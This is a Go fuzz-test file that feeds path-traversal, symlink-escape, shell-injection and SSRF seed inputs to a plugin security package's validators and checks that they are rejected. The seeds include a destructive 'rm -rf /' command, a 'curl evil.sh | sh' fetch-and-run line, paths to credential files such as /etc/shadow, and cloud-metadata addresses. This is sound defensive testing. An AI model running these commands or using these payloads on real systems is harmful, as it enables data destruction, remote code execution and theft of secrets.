package security

import (
	"errors"
	"net"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// FuzzPathValidate throws traversal corpora at the path validator and
// checks the one property everything else rests on: whatever comes back
// accepted is an absolute path inside the allowed root.
func FuzzPathValidate(f *testing.F) {
	seeds := []string{
		// plausible plugin-root paths
		"hello/hello.sh",
		"hello/data/cache.json",
		"notes.txt",

		// classic traversal, plain and obfuscated
		"../../../etc/passwd",
		"..\\..\\..\\etc\\passwd",
		"....//....//....//etc/passwd",
		"hello/../../../etc/passwd",
		"..%2f..%2f..%2fetc%2fpasswd",
		"..%252f..%252f..%252fetc%252fpasswd",
		"..%c0%af..%c0%afetc/passwd",
		"..／..／etc/passwd", // fullwidth solidus
		"/tmp/./x/../../../etc/passwd",
		"/.../etc/passwd",

		// null bytes
		"safe.txt\x00/etc/passwd",
		"hello.sh\x00.bak",

		// targets worth probing directly
		"/etc/shadow",
		"/proc/self/environ",
		"/sys/kernel/debug",
		"/dev/null",
		"C:\\Windows\\System32\\config\\SAM",
		"\\\\server\\share\\file",
		"file:///etc/passwd",

		// degenerate inputs
		"",
		"/",
		".",
		"..",
		"~",
		"~/../etc/passwd",
		strings.Repeat("a", 1000),
		strings.Repeat("../", 100),
	}
	for _, s := range seeds {
		f.Add(s)
	}

	root := f.TempDir()
	canonicalRoot, err := filepath.EvalSymlinks(root)
	if err != nil {
		canonicalRoot = root
	}
	validator, err := NewPath([]string{root})
	if err != nil {
		f.Fatalf("NewPath() error: %v", err)
	}

	f.Fuzz(func(t *testing.T, input string) {
		resolved, err := validator.Validate(input)

		if strings.Contains(input, "\x00") {
			if !errors.Is(err, ErrNullByte) {
				t.Errorf("null byte input %q: error = %v, want ErrNullByte", input, err)
			}
			return
		}
		if err != nil {
			return
		}

		if !filepath.IsAbs(resolved) {
			t.Errorf("accepted path is not absolute: input=%q resolved=%q", input, resolved)
		}
		if resolved != canonicalRoot && !strings.HasPrefix(resolved, canonicalRoot+string(filepath.Separator)) {
			t.Errorf("accepted path escapes the root: input=%q resolved=%q", input, resolved)
		}
	})
}

// FuzzSymlinkEscape plants a link to /etc/passwd under every fuzzed name
// and requires the validator to refuse it regardless of what the name
// looks like.
func FuzzSymlinkEscape(f *testing.F) {
	f.Add("entrypoint.sh")
	f.Add("data")
	f.Add(".hidden")

	f.Fuzz(func(t *testing.T, name string) {
		if name == "" || name == "." || name == ".." {
			return
		}
		if strings.ContainsAny(name, "/\\\x00") {
			return
		}

		root := t.TempDir()
		validator, err := NewPath([]string{root})
		if err != nil {
			t.Skipf("NewPath() error: %v", err)
		}

		link := filepath.Join(root, name)
		if err := os.Symlink("/etc/passwd", link); err != nil {
			t.Skipf("symlink %q not creatable: %v", name, err)
		}

		if _, err := validator.Validate(link); err == nil {
			t.Errorf("link named %q to /etc/passwd was accepted", name)
		}
	})
}

// FuzzValidateArgument checks that the argument scanner holds its three
// hard rules (metacharacters, null bytes, length) and rejects nothing
// else.
func FuzzValidateArgument(f *testing.F) {
	seeds := []string{
		// argv a legitimate plugin would pass
		"--format=json",
		"-v",
		"hello world",
		"",

		// injection shapes
		"; rm -rf /",
		"a && curl evil.sh | sh",
		"$(whoami)",
		"`whoami`",
		">output",
		"<input",
		"a|b",
		"x\ny",

		// null bytes and length
		"file.txt\x00/etc/passwd",
		"\x00",
		strings.Repeat("A", 20000),
		strings.Repeat("A", MaxArgLen),

		// characters that look like operators but are not
		"—help",  // em dash, not a double hyphen
		"ｌｓ -la", // fullwidth letters
	}
	for _, s := range seeds {
		f.Add(s)
	}

	f.Fuzz(func(t *testing.T, arg string) {
		err := ValidateArgument(arg)

		switch {
		case strings.ContainsAny(arg, argMetachars):
			if err == nil {
				t.Errorf("metacharacter accepted: %q", arg)
			}
		case strings.Contains(arg, "\x00"):
			if err == nil {
				t.Errorf("null byte accepted: %q", arg)
			}
		case len(arg) > MaxArgLen:
			if !errors.Is(err, ErrArgumentTooLong) {
				t.Errorf("oversized argument (len=%d): error = %v, want ErrArgumentTooLong", len(arg), err)
			}
		default:
			if err != nil {
				t.Errorf("benign argument rejected: %q (%v)", arg, err)
			}
		}
	})
}

// FuzzURLValidate feeds SSRF bypass corpora to the URL validator. An
// accepted URL must still parse, carry an allowed scheme, and must not be
// an IP literal the dial-time check would refuse; anything else means the
// static and dial-time layers disagree.
func FuzzURLValidate(f *testing.F) {
	seeds := []string{
		"https://example.com",
		"http://example.com/path?q=1",

		"ftp://example.com",
		"file:///etc/passwd",
		"javascript:alert(1)",
		"gopher://evil.com",

		"http://127.0.0.1",
		"http://127.0.0.1:8080",
		"http://[::1]",
		"http://10.0.0.1",
		"http://172.16.0.1",
		"http://192.168.1.1",
		"http://169.254.169.254/latest/meta-data/",
		"http://metadata.google.internal",
		"http://localhost",
		"http://localhost:3000",

		"",
		"://",
		"http://",
		"http://0.0.0.0",

		// loopback spelled sideways
		"http://[::ffff:127.0.0.1]",
		"http://[::ffff:7f00:1]",
		"http://0x7f000001",
		"http://2130706433",
		"http://017700000001",
		"http://127.1",
		"http://0x7f.0.0.1",
		"http://0177.0.0.1",
	}
	for _, s := range seeds {
		f.Add(s)
	}

	validator := NewURL()

	f.Fuzz(func(t *testing.T, rawURL string) {
		if err := validator.Validate(rawURL); err != nil {
			return
		}

		u, err := url.Parse(rawURL)
		if err != nil {
			t.Fatalf("accepted URL no longer parses: %q (%v)", rawURL, err)
		}
		switch strings.ToLower(u.Scheme) {
		case "http", "https":
		default:
			t.Errorf("accepted URL has scheme %q: %q", u.Scheme, rawURL)
		}
		if ip := net.ParseIP(u.Hostname()); ip != nil {
			if err := validator.checkIP(ip); err != nil {
				t.Errorf("accepted IP literal fails the dial-time check: %q (%v)", rawURL, err)
			}
		}
	})
}
